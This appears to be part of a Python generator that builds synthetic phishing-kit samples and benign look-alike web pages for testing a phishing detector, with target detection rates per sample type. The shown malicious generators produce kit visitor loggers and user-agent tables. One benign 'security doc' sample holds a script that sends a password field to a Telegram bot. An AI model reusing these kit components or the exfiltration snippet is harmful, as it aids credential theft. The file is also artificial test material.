            s += "    %s = array(\n%s\n    );\n" % (var, ",\n".join("        '/%s/i' => '%s'" % (p, n) for n, p in rows))
            s += "    foreach (%s as $regex => $value) {\n        if (preg_match($regex, %s)) { return $value; }\n    }\n" % (var, ua)
        else:
            s += "    %s = array(\n%s\n    );\n" % (var, ",\n".join("        '%s' => '(%s)'" % (n, p.replace("|", ")|(")) for n, p in rows))
            s += "    foreach (%s as $name => $pattern) {\n        if (%s) { return $name; }\n    }\n" % (
                var, r.choice(["eregi($pattern, %s)" % ua, "preg_match('/' . $pattern . '/i', %s)" % ua]))
        s += "    return %s;\n}\n" % r.choice(["'Unknown'", "'Unknown OS'", "'Other'"])
    if r.random() < 0.5:
        s += "?>\n"
    return {r.choice(["browser.php", "os.php", "inc/ua.php", "log/browser.php", "functions/os.php"]): s}


def t_visitor_logger(r):
    """The kit's visit log: date, address, user agent (and country) appended to a text/html file."""
    f = r.choice(["visitors.txt", "views.html", "log/visit.txt", "../clicks.txt", "vu.txt"])
    s = "<?php\n" + r.choice(["", "date_default_timezone_set('UTC');\n"]) + ip_line(r)
    s += r.choice(["$line = date('Y-m-d H:i:s') . ' | ' . $ip . ' | ' . @$_SERVER['HTTP_USER_AGENT'] . ' | ' . @$_SESSION['country'] . \"\\n\";\n",
                   "$line = \"$ip - \" . date('d/m/Y h:i') . \" - \" . $_SERVER['HTTP_USER_AGENT'] . \"<br>\\n\";\n",
                   "$line = sprintf(\"[%%s] %%s %%s\\n\", date('c'), $ip, $_SERVER['HTTP_USER_AGENT']);\n"])
    s += r.choice(["@file_put_contents(__DIR__ . '/%s', $line, FILE_APPEND);\n" % f,
                   "$fp = fopen('%s', 'a');\nfputs($fp, $line);\nfclose($fp);\n" % f,
                   "error_log($line, 3, '%s');\n" % f])
    return {r.choice(["inc/visitors.php", "visit.php", "log.php", "track.php"]): s}


# ---------------------------------------------------------------------------
# look-alikes


def b_spa_login(r):
    api = r.choice(["/api/login", "/auth/session", "https://api.%s.example.com/v1/session" % rnd(r, 5), "./login"])
    body = ('<form id="login" novalidate>\n  <input type="email" id="email" autocomplete="username">\n'
            '  <input type="password" id="password" autocomplete="current-password">\n  <button>Sign in</button>\n</form>\n'
            "<script>\ndocument.getElementById('login').addEventListener('submit',async function(e){e.preventDefault();\n"
            "const res=await fetch('%s',{method:'POST',credentials:'include',headers:{'Content-Type':'application/json','X-CSRF-Token':"
            "document.querySelector('meta[name=csrf-token]').content},body:JSON.stringify({email:document.getElementById('email').value,"
            "password:document.getElementById('password').value})});\nif(res.ok){location.href='/dashboard';}else{document.getElementById('err').hidden=false;}});\n</script>"
            % api)
    return {"login.html": page(r, r.choice(["Sign in - Acme Portal", "Login | Dashboard", "Sign in"]), body,
                               '<meta name="csrf-token" content="%s">\n' % rnd(r, 32))}


def b_analytics(r):
    h = r.choice(["stats.example.org", "analytics.%s.example.com" % rnd(r, 4), "www.google-analytics.com"])
    js = r.choice([
        "(function(){var d=document,i=new Image();i.src='https://%s/collect?v=1&dl='+encodeURIComponent(d.location.href)+'&dr='+encodeURIComponent(d.referrer)+'&sr='+screen.width+'x'+screen.height+'&ua='+encodeURIComponent(navigator.userAgent);})();" % h,
        "window.addEventListener('pagehide',function(){navigator.sendBeacon('https://%s/api/event',JSON.stringify({n:'pageview',u:location.href,r:document.referrer,w:innerWidth}));});" % h,
        "var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);(function(){var u='//%s/';_paq.push(['setTrackerUrl',u+'matomo.php']);var g=document.createElement('script');g.src=u+'matomo.js';document.head.appendChild(g);})();" % h,
        "document.querySelectorAll('a.out').forEach(function(a){a.addEventListener('click',function(){navigator.sendBeacon('https://%s/click?to='+encodeURIComponent(a.href));});});" % h,
    ])
    body = '<form action="/search"><input name="q" type="search"><button>Search</button></form>\n<p>Welcome.</p>\n<script>%s</script>' % js
    return {"index.html": page(r, r.choice(["Home", "Our shop", "Blog"]), body)}


def b_form_service_contact(r):
    svc = r.choice(["https://formspree.io/f/%s" % rnd(r, 8), "https://formsubmit.co/%s@example.com" % rnd(r, 6),
                    "https://getform.io/f/%s" % rnd(r, 8), "https://api.web3forms.com/submit"])
    body = ('<h2>Contact us</h2>\n<form action="%s" method="POST" id="contact">\n  <input type="text" name="name" placeholder="Your name">\n'
            '  <input type="email" name="email" placeholder="Email">\n  <input type="tel" name="phone" placeholder="Phone">\n'
            '  <textarea name="message" placeholder="Message"></textarea>\n  <input type="hidden" name="_subject" value="New enquiry">\n'
            '  <button type="submit">Send</button>\n</form>\n' % svc)
    if r.random() < 0.5:
        body += ("<script>\ndocument.getElementById('contact').addEventListener('submit',function(e){e.preventDefault();\n"
                 "fetch(this.action,{method:'POST',body:new FormData(this),headers:{Accept:'application/json'}}).then(function(){"
                 "document.getElementById('contact').innerHTML='<p>Thanks!</p>';});});\n</script>")
    return {"contact.html": page(r, r.choice(["Contact - Bakery", "Get in touch", "Contact"]), body)}


def b_newsletter(r):
    body = ('<form action="https://%s.us%d.list-manage.com/subscribe/post?u=%s&amp;id=%s" method="post">\n'
            '  <input type="email" name="EMAIL" placeholder="Email"><input type="text" name="FNAME">\n  <input type="submit" value="Subscribe">\n</form>'
            % (rnd(r, 6), r.randint(1, 20), rnd(r, 20), rnd(r, 10)))
    return {"newsletter.html": page(r, "Newsletter", body)}


def b_ga_legacy(r):
    js = r.choice([
        "var gaJsHost = ((\"https:\" == document.location.protocol) ? \"https://ssl.\" : \"http://www.\");\n"
        "document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));",
        "document.write(unescape('%3Cscript src=\"//cdn.example.com/widget.js\"%3E%3C/script%3E'));",
        "document.write('<scr'+'ipt src=\"js/legacy.js\"></scr'+'ipt>');",
        "document.write(atob('PHAgY2xhc3M9Im5vdGljZSI+T3VyIHNob3AgaXMgY2xvc2VkIG9uIFN1bmRheXMuPC9wPg=='));",
    ])
    return {"index.html": page(r, "Welcome", "<h1>Shop</h1>\n<script type=\"text/javascript\">\n%s\n</script>" % js)}


def b_email_obfuscator(r):
    addr = "%s@%s.example.com" % (r.choice(["info", "office", "hello"]), rnd(r, 5))
    a = '<a href="mailto:%s">%s</a>' % (addr, addr)
    k = r.choice(["fcc", "ent", "rev", "esc"])
    if k == "fcc":
        js = "<script>document.write(String.fromCharCode(%s));</script>" % ",".join(str(ord(c)) for c in a)
    elif k == "ent":
        js = "<p>Write to " + "".join("&#%d;" % ord(c) for c in addr) + "</p>"
    elif k == "rev":
        js = "<script>document.write('%s'.split('').reverse().join(''));</script>" % a[::-1]
    else:
        js = "<script>document.write(unescape('%s'));</script>" % "".join("%%%02X" % ord(c) for c in a)
    return {"contact.html": page(r, "Contact", "<h2>Contact</h2>\n" + js)}


def b_hosting_webmail(r):
    body = ('<form method="post" action="https://webmail.%s.example.net/login.php">\n  <input type="text" name="user" placeholder="user@yourdomain">\n'
            '  <input type="password" name="pass">\n  <input type="submit" value="Log in">\n</form>' % rnd(r, 6))
    return {"webmail.html": page(r, r.choice(["Webmail Login", "Webmail", "Email login"]), "<h2>Staff webmail</h2>\n" + body)}


def b_oauth_page(r):
    body = ('<a class="btn" href="https://accounts.google.com/o/oauth2/v2/auth?client_id=%s&amp;redirect_uri=https%%3A%%2F%%2Fapp.example.com%%2Fcb&amp;response_type=code&amp;scope=openid%%20email&amp;state=%s">Sign in with Google</a>\n'
            '<form method="post" action="/login"><input type="hidden" name="csrf_token" value="%s"><input name="email" type="email"><input name="password" type="password"><button>Log in</button></form>'
            % (rnd(r, 20), rnd(r, 16), rnd(r, 32)))
    return {"login.html": page(r, "Sign in - Acme", body)}


def b_payment_hosted(r):
    gw = r.choice(["https://secure.authorize.net/gateway/transact.dll", "https://www.2checkout.com/checkout/purchase",
                   "https://test.sagepay.com/gateway/service/vspform-register.vsp", "https://secure.worldpay.com/wcc/purchase"])
    body = ('<form method="post" action="%s">\n  <input type="hidden" name="x_login" value="%s">\n  <input type="hidden" name="x_amount" value="19.99">\n'
            '  <input type="text" name="x_card_num" placeholder="Card number">\n  <input type="text" name="x_exp_date" placeholder="MM/YY">\n'
            '  <input type="text" name="x_card_code" placeholder="CVV">\n  <input type="submit" value="Pay">\n</form>' % (gw, rnd(r, 8)))
    return {"checkout.html": page(r, "Checkout - Shop", body)}


def b_wallet_help(r):
    body = ("<h1>Keep your recovery phrase safe</h1>\n<p>Your 12 or 24 word recovery phrase is the only way to restore your wallet. "
            "Never enter it on a website and never share it.</p>\n<textarea id=\"w\" placeholder=\"Practice: type words to check them against the BIP39 list (stays in your browser)\"></textarea>\n"
            "<script src=\"bip39-wordlist.js\"></script>\n<script>document.getElementById('w').oninput=function(){var n=this.value.trim().split(/\\s+/).filter(function(x){return WORDS.indexOf(x)>=0;}).length;"
            "document.getElementById('c').textContent=n+' valid words';};</script><span id=\"c\"></span>")
    return {"security.html": page(r, "Wallet security", body)}


def b_formmail(r):
    s = ("<?php\n$recipient = 'office@%s.example.com';\n$ok = array('name', 'email', 'phone', 'message');\n$body = '';\n"
         "foreach ($_POST as $k => $v) {\n    if (in_array($k, $ok)) { $body .= ucfirst($k) . ': ' . strip_tags($v) . \"\\n\"; }\n}\n"
         "$body .= 'Sent from: ' . $_SERVER['REMOTE_ADDR'] . \"\\n\";\nif (!empty($_POST['website'])) { exit; } // honeypot\n"
         "mail($recipient, 'Website enquiry', $body, 'From: noreply@%s.example.com');\nheader('Location: thanks.html');\n"
         % (rnd(r, 5), rnd(r, 5)))
    return {"formmail.php": s}


def b_seo_htaccess(r):
    bots = r.sample(["AhrefsBot", "SemrushBot", "MJ12bot", "DotBot", "BLEXBot", "PetalBot", "MegaIndex", "serpstatbot"], 5)
    s = ("# Block SEO crawlers\nRewriteEngine On\nRewriteCond %%{HTTP_USER_AGENT} (%s) [NC]\nRewriteRule .* - [F,L]\n"
         "<Files xmlrpc.php>\nRequire all denied\n</Files>\n" % "|".join(bots))
    return {".htaccess": s}


def b_ua_parser_lib(r):
    rows = [("Firefox", "firefox"), ("Chrome", "chrome"), ("Safari", "safari"), ("Edge", "edg"), ("Opera", "opr")]
    s = ("<?php\n/**\n * Parses user agent strings.\n * @license MIT\n */\nnamespace Acme\\Http;\n\nfinal class UserAgent\n{\n"
         "    private const BROWSERS = [\n%s\n    ];\n    private string $ua;\n\n    public function __construct(string $ua) { $this->ua = $ua; }\n\n"
         "    public function browser(): string\n    {\n        foreach (self::BROWSERS as $re => $name) {\n            if (preg_match($re, $this->ua)) { return $name; }\n        }\n        return 'Other';\n    }\n\n"
         "    public function isMobile(): bool { return (bool) preg_match('/Mobile|Android/i', $this->ua); }\n\n"
         "    public function isBot(): bool { return (bool) preg_match('/bot|crawl|spider/i', $this->ua); }\n}\n"
         % ",\n".join("        '/%s/i' => '%s'" % (p, n) for n, p in rows))
    return {"src/Http/UserAgent.php": s}


def b_logger(r):
    s = ("<?php\nnamespace App\\Log;\n\nuse Psr\\Log\\AbstractLogger;\n\nclass FileLogger extends AbstractLogger\n{\n    private $path;\n\n"
         "    public function __construct($path) { $this->path = $path; }\n\n    public function log($level, $message, array $context = array())\n    {\n"
         "        $line = sprintf(\"[%%s] %%s: %%s\\n\", date('c'), strtoupper($level), $message);\n        file_put_contents($this->path, $line, FILE_APPEND | LOCK_EX);\n    }\n}\n")
    return {"src/Log/FileLogger.php": s}


def b_cms_step_checkout(r):
    s = ("<?php\nsession_start();\nrequire 'bootstrap.php';\nif ($_SERVER['REQUEST_METHOD'] === 'POST') {\n"
         "    if (!hash_equals($_SESSION['csrf'], (string) $_POST['csrf'])) { http_response_code(400); exit; }\n"
         "    foreach (['name', 'street', 'city', 'zip'] as $k) { $_SESSION['checkout'][$k] = trim((string) $_POST[$k]); }\n"
         "    header('Location: payment.php'); exit;\n}\n?>\n<form method=\"post\"><input type=\"hidden\" name=\"csrf\" value=\"<?= $_SESSION['csrf'] ?>\">"
         "<input name=\"name\"><input name=\"street\"><input name=\"city\"><input name=\"zip\"><button>Next</button></form>\n")
    return {"checkout/address.php": s}


def b_sso_otp(r):
    """A rendered single-sign-on page: the one-time code posted to the identity provider's absolute address."""
    idp = "https://sso.%s.example.com/realms/staff/login-actions/authenticate?session_code=%s&execution=%s" % (rnd(r, 5), rnd(r, 20), rnd(r, 12))
    body = ('<div id="kc-form"><h1>Sign in to Staff Portal</h1>\n<form id="kc-otp-login-form" action="%s" method="post">\n'
            '  <label for="otp">One-time code</label><input id="otp" name="otp" autocomplete="one-time-code" type="text" autofocus>\n'
            '  <input type="submit" value="Sign In">\n</form></div>' % idp)
    return {"login-otp.html": page(r, "Sign in to Staff Portal", body)}


def b_webmail_compose(r):
    body = ('<form id="compose" method="post">\n  <input name="to"><input name="cc"><input name="bcc"><input name="subject">\n  <textarea name="body"></textarea>\n'
            '  <button>Send</button>\n</form>\n<script>\ndocument.getElementById("compose").onsubmit=function(e){e.preventDefault();\n'
            "fetch('https://mail-api.%s.example.com/v1/messages',{method:'POST',credentials:'include',body:new FormData(this)}).then(function(){location.href='https://mail.%s.example.com/inbox';});};\n</script>" % (rnd(r, 5), rnd(r, 5)))
    return {"compose.html": page(r, "Compose - Mail", body)}


def b_login_component_test(r):
    s = ("import { render, fireEvent } from '@testing-library/dom';\nimport { mountLogin } from '../src/login';\n\n"
         "test('posts the credentials to the API and goes to the dashboard', async () => {\n"
         "  document.body.innerHTML = '<form id=\"f\"><input name=\"email\"><input type=\"password\" name=\"password\"></form>';\n"
         "  global.fetch = jest.fn(() => Promise.resolve({ ok: true }));\n  mountLogin(document.getElementById('f'), 'https://api.example.com/v1/login');\n"
         "  document.querySelector('[name=password]').value = 'hunter2';\n  fireEvent.submit(document.getElementById('f'));\n"
         "  expect(fetch).toHaveBeenCalledWith('https://api.example.com/v1/login', expect.anything());\n"
         "  expect(window.location.href).toBe('https://app.example.com/dashboard');\n});\n")
    return {"tests/login.test.js": s}


def b_security_doc(r):
    s = ("# How phishing kits steal passwords\n\nA cloned page reads the field and posts it to a bot:\n\n```html\n"
         '<input type="password" id="pass">\n<script>\nfetch(\'https://api.telegram.org/bot<token>/sendMessage?chat_id=1&text=\'+document.getElementById(\'pass\').value);\n'
         "location.href='https://www.example.com/';\n</script>\n```\n\nBlock outbound requests to api.telegram.org from your pages with a CSP.\n")
    return {"docs/phishing-kits.md": s}


def b_admin_login(r):
    body = ('<form method="post" action="/admin/login">\n  <input type="hidden" name="_csrf" value="%s">\n  <input name="username"><input type="password" name="password">\n'
            '  <button>Log in</button>\n</form>' % rnd(r, 32))
    return {"admin/login.html": page(r, "Administration", body)}


def b_saml_post(r):
    body = ('<body onload="document.forms[0].submit()">\n<form method="post" action="https://idp.%s.example.org/saml2/sso">\n'
            '  <input type="hidden" name="SAMLRequest" value="%s">\n  <input type="hidden" name="RelayState" value="%s">\n'
            '  <noscript><input type="submit" value="Continue"></noscript>\n</form>' % (rnd(r, 5), rnd(r, 120, string.ascii_letters + string.digits), rnd(r, 12)))
    return {"saml.html": page(r, "Redirecting", body)}


MALICIOUS = [
    # name, function, minimum found rate, minimum high+ rate
    ("html_js_exfil", t_html_js_exfil, 1.0, 0.8),
    # the bank form (password + SMS code, no card) is medium by design: a VPN portal asks the same
    ("html_form_offsite", t_html_form_offsite, 1.0, 0.7),
    ("html_encoded_page", t_html_encoded_page, 0.9, 0.5),
    ("html_wallet_seed", t_html_wallet_seed, 0.9, 0.0),
    ("step_file", t_step_file, 1.0, 0.7),
    ("post_dump_handler", t_post_dump_handler, 0.9, 0.0),
    # not told apart from a contact form's AJAX back end by the rules: measured, no target
    ("post_dump_ajax", t_post_dump_ajax, 0.0, 0.0),
    ("wallet_handler", t_wallet_handler, 1.0, 0.8),
    ("random_dir_gate", t_random_dir_gate, 0.9, 0.0),
    ("antibot_include", t_antibot_include, 0.9, 0.0),
    ("htaccess_gate", t_htaccess_gate, 0.9, 0.0),
    ("browser_table", t_browser_table, 0.75, 0.0),
    ("visitor_logger", t_visitor_logger, 0.0, 0.0),
]

BENIGN = [
    ("spa_login", b_spa_login), ("analytics_beacon", b_analytics), ("form_service_contact", b_form_service_contact),
    ("newsletter_form", b_newsletter), ("ga_legacy_write", b_ga_legacy), ("email_obfuscator", b_email_obfuscator),
    ("hosting_webmail", b_hosting_webmail), ("oauth_page", b_oauth_page), ("payment_hosted_form", b_payment_hosted),
    ("wallet_help", b_wallet_help), ("formmail", b_formmail), ("seo_htaccess", b_seo_htaccess),
    ("ua_parser_lib", b_ua_parser_lib), ("psr_logger", b_logger), ("checkout_steps", b_cms_step_checkout),
    ("sso_otp_page", b_sso_otp), ("webmail_compose", b_webmail_compose), ("login_component_test", b_login_component_test),
    ("security_doc_md", b_security_doc), ("admin_login", b_admin_login), ("saml_post", b_saml_post),
]


def generate(out, seed, per):
    return write_set(out, seed, per, MALICIOUS, BENIGN, "phishgen2")

def main():
    return cli(__doc__, generate, MALICIOUS, "phishgen2", list_below_high=True)


if __name__ == "__main__":
    sys.exit(main())
